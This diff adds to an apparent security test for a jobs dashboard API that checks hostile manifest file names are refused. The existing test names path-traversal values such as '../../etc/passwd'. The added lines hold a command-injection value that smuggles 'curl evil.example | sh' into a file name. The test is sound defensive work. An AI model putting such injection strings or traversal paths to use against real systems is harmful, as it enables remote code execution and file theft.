@@ -256,6 +256,13 @@ describe('jobs dashboard API', () => {
     const hostile = ['../../etc/passwd', '/etc/passwd', 'a/b', `../${id}/disk.qcow2`, join(outside, 'secret.log'), '.hidden'];
     writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ ...manifest, outputs: [...manifest.outputs, ...hostile.map((file) => ({ ...good, file }))] }));
     for (const file of hostile) await refused(file);
+    // a name with a quote would break out of the portal's `sha256sum -c` line: a manifest holding one is no
+    // manifest (its schema allows plain file names only), so the build view lists nothing from it
+    const quoted = "disk.img'; curl evil.example | sh; echo '";
+    writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ ...manifest, outputs: [...manifest.outputs, { ...good, file: quoted }] }));
+    const listedView = await body(`/api/jobs/${id}/build`);
+    assert.deepEqual([listedView.present, listedView.outputs], [false, []]);
+    await refused(quoted);
     // the same names given straight to BuildFiles (the layer under the route): none opens, a listed one does
     const files = new BuildFiles(dataDir);
     for (const file of [...hostile, 'qa/report.json', 'a/./b', '..']) assert.equal(await files.openOutput(id, file), undefined, file);
